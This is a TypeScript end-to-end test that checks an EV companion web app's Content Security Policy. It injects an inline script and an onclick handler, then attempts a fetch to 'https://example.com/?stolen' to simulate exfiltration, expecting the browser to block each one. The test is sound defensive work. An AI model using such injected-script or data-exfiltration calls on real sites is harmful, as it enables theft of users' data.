import { DEMO_ACCOUNTS } from '@psa-ev/tools/demo/demo-accounts.ts';
import { AppStack } from '../stack/app-stack.ts';
import { troublesOfPolicy } from '../stack/policy-troubles.ts';

const { owner } = DEMO_ACCOUNTS;
/** For what a page fetches after its heading. */
const LATECOMERS_MS = 2_000;
/** Every page of the app but the two before it. */
const PAGES = [
  '/',
  '/diagnosis',
  '/notifications',
  '/charging',
  '/climate',
  '/remote',
  '/trips',
  '/places',
  '/tariffs',
  '/insights',
  '/insights/battery',
  '/insights/mileage',
];

describe('with the headers that Firebase Hosting sends', () => {
  let stack: AppStack;
  beforeAll(async () => {
    stack = await AppStack.start({ speed: 60 }, [owner]);
  });
  afterAll(() => stack.stop());

  it('nothing that finds its way into a page runs, or is sent anywhere', () =>
    stack.visit(async (app) => {
      await app.open();
      await app.signInForm.waitFor();
      const reached = await app.page.evaluate(async () => {
        const script = Object.assign(document.createElement('script'), { textContent: 'document.title = "taken"' });
        const box = document.createElement('div');
        box.innerHTML = '<p onclick="document.title = `taken`">x</p>';
        document.body.append(script, box);
        box.querySelector('p')?.click();
        const sent = await fetch('https://example.com/?stolen').then(
          () => true,
          () => false,
        );
        return { title: document.title, sent };
      });
      expect(reached).toEqual({ title: 'Sign in · PSA EV Communicator', sent: false });
      expect(troublesOfPolicy(app.troubles)).not.toEqual([]);
    }));

  it('every page shows all it has, and the browser has nothing against it', () =>
    stack.visit(async (app) => {
      await app.enter(owner);
      await app.says(/^Pi checked/);
      await app.page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
      for (const path of PAGES) {
        await app.open(path);
        await app.page.getByRole('heading', { level: 1 }).first().waitFor();
        // What comes later has no sign of its own, and Firestore's answers never end.
        await app.page.waitForTimeout(LATECOMERS_MS);
      }
      expect(await app.page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
      expect(troublesOfPolicy(app.troubles)).toEqual([]);
    }));
});
